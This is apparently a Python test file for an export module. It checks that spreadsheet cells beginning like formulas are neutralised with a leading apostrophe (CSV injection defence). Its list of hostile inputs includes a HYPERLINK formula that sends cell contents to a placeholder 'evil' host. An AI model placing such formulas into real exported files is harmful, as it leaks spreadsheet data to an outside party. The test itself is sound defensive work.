"""§5 of the hardening issue, exports: a text cell that starts like a formula (`=`, `+`,
`-`, `@`, tab, CR) is neutralised in every XLSX and CSV the system writes (OWASP CSV
injection), by the one kernel helper."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from backstop.exports import FORMULA_START, safe_cell, safe_row
from services.assistance.reports import workbook_bytes

HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_neutralised(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_other_values_pass_unchanged() -> None:
    assert safe_row(["户主", "441881101", -5, 1.5, None, "a=b"]) == [
        "户主", "441881101", -5, 1.5, None, "a=b"]  # fmt: skip


def test_the_quarterly_report_workbook_holds_no_formula() -> None:
    town = {
        "town_code": "441881101",
        "inclusions": {"by_factor": {"=evil()": 1}},
        "eliminations": {
            "reasons": [{"method": "natural", "reason": r, "count": 1} for r in HOSTILE]
        },
    }
    report = {"quarter": "=2026Q4", "start": "2026-10-01", "end": "2026-12-31",
              "status": "open", "computed_at": "-x", "closed_by": "@admin", "towns": [town],
              "totals": {}}  # fmt: skip
    workbook = load_workbook(io.BytesIO(workbook_bytes(report)))
    texts = [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert all(
        cell.data_type != "f" for s in workbook.worksheets for r in s.iter_rows() for cell in r
    )
    assert not [t for t in texts if t.startswith(FORMULA_START)]
    for text in ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "=evil()", "=2026Q4", "@admin"]:
        assert "'" + text in texts
